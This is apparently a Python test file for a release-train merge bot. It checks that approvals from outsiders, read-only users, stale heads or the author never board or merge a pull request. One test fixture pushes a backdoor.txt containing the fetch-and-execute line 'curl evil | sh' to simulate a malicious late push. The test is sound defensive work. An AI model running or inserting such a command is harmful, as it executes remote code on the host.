"""Approvals as an attacker sees them (issue 27), in the sandbox over HTTP: an outsider's
approval (anyone can review a public repository), a read-only collaborator's, an approval
on an older head (commits pushed after it), and an author's own never board a PR nor merge
a train; the policy check run says who counted and why the others did not."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from lifecycle_sandbox import REPO, Story, new_story, start_time
from scenario import MERGED, board, depart, ledger_records, play

from bot.sandbox.http import ApiError
from bot.sandbox.runner import Sandbox

pytestmark = pytest.mark.reliability

OUTSIDER = "drive-by-dan"  # no role at all: on a public repository GitHub says "read"


def _open(story: Story, author: str, branch: str, name: str) -> int:
    number = int(story.kit.open_pr(REPO, author, branch, {name: f"{name}\n"}, title=name))
    story.green(story.pull(number)["head"]["sha"])
    return number


def _ledger_after_departure(story: Story) -> dict[str, Any]:
    train = story.open_train_pr()
    return story.ledger(train["head"]["ref"].removeprefix("release/"))


def test_only_a_writers_approval_on_the_head_boards_a_pr(sandbox: Sandbox) -> None:
    t0 = start_time()
    story = new_story(sandbox, t0)
    sandbox.store.add_user(OUTSIDER)
    kit = story.kit
    good = _open(story, "dev-alice", "good", "good.txt")
    kit.review(REPO, good, "rev-carol", "APPROVE")
    outsider = _open(story, "dev-alice", "outsider", "outsider.txt")
    kit.review(REPO, outsider, OUTSIDER, "APPROVE")
    reader = _open(story, "dev-alice", "reader", "reader.txt")
    kit.review(REPO, reader, "reader-erin", "APPROVE")
    stale = _open(story, "dev-bob", "stale", "stale.txt")
    kit.review(REPO, stale, "rev-carol", "APPROVE")
    # ...and then the author pushes more: the approval was for the old head
    kit.push(REPO, "stale", {"backdoor.txt": "curl evil | sh\n"}, "more", "dev-bob")
    story.green(story.pull(stale)["head"]["sha"])
    with pytest.raises(ApiError) as refused:
        kit.review(REPO, good, "dev-alice", "APPROVE")  # GitHub refuses it too
    assert refused.value.errors == ["Can not approve your own pull request"]
    for number in (good, outsider, reader, stale):
        kit.label(REPO, number, "train:next", actor="dev-alice")
    story.reconcile(t0)
    story.reconcile(t0 + timedelta(minutes=2))
    record = _ledger_after_departure(story)
    assert [b["number"] for b in record["boarded"]] == [good]
    missed = {m["number"]: m["detail"] for m in record["missed"]}
    read_only = "no write access to the repository (role: read)"
    assert missed[outsider] == f"no approving review that counts (@{OUTSIDER}: {read_only})"
    assert missed[reader] == f"no approving review that counts (@reader-erin: {read_only})"
    assert missed[stale].startswith("no approving review that counts (@rev-carol: stale: given")
    said = [c["body"] for c in story.comments(stale) if c["user"]["login"].endswith("[bot]")]
    assert any("stale: given on commit" in body for body in said), said
    files = sandbox.git.out(REPO, "ls-tree", "--name-only", record["release_branch"])
    assert "backdoor.txt" not in files.split()


def _policy_summary(story: Story, sha: str) -> str:
    runs = story.kit.call("GET", f"/repos/{REPO}/commits/{sha}/check-runs", as_user="rm-dave")
    (policy,) = [r for r in runs["check_runs"] if r["name"].endswith("policy")]
    return str(policy["output"]["summary"])


def test_outsiders_and_stale_approvals_never_merge_a_train(sandbox: Sandbox) -> None:
    run = play(sandbox, phases=[("board", board), ("depart", depart)])
    sandbox.store.add_user(OUTSIDER)
    pr = run.story.open_train_pr()
    number, head = pr["number"], pr["head"]["sha"]
    run.story.green(head)
    at = run.t0 + timedelta(minutes=3)
    for who in (OUTSIDER, "reader-erin"):
        run.story.approve(number, who, at)
    run.settle(at + timedelta(minutes=1))
    assert run.story.pull(number)["state"] == "open"
    summary = _policy_summary(run.story, head)
    read_only = "does not count: no write access to the repository (role: read)"
    for who in (OUTSIDER, "reader-erin"):
        assert f"| @{who} | approved | {read_only} |" in summary, summary
    # a release manager approves; then the release branch moves before the merge
    run.story.approve(number, "rm-dave", at + timedelta(minutes=1))
    moved = run.kit.push(REPO, pr["head"]["ref"], {"late.txt": "late\n"}, "late", "dev-bob")
    run.story.green(moved)
    run.settle(at + timedelta(minutes=2))
    assert run.story.pull(number)["state"] == "open"
    assert "| @rm-dave | approved | does not count: stale: given on commit" in _policy_summary(
        run.story, moved
    )
    run.story.approve(number, "rm-dave", at + timedelta(minutes=3))  # on the new head
    run.settle(at + timedelta(minutes=4))
    assert run.story.pull(number)["merged"] is True
    (merged,) = [r for r in ledger_records(run).values() if r["state"] in MERGED]
    assert merged["approved_by"] == ["rm-dave"]
